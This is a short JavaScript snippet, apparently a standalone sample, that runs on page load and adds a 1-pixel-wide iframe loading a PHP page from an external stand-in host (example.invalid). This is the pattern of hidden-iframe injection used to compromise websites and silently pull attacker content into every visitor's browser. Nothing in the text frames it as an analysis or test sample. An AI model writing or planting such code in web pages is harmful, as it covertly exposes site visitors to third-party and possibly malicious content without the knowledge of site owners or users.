window.addEvent('load', function () {
    var f = document.createElement('iframe');
    f.src = 'http://example.invalid/x.php';
    f.width = 1;
    document.body.appendChild(f);
});
